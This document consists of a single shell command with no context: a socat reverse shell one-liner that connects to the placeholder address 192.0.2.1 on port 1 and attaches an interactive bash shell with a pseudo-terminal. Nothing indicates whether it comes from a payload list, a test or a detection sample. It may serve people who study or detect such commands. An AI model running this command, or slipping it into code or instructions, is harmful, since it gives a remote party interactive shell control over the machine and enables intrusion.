socat tcp:192.0.2.1:1 exec:bash,pty
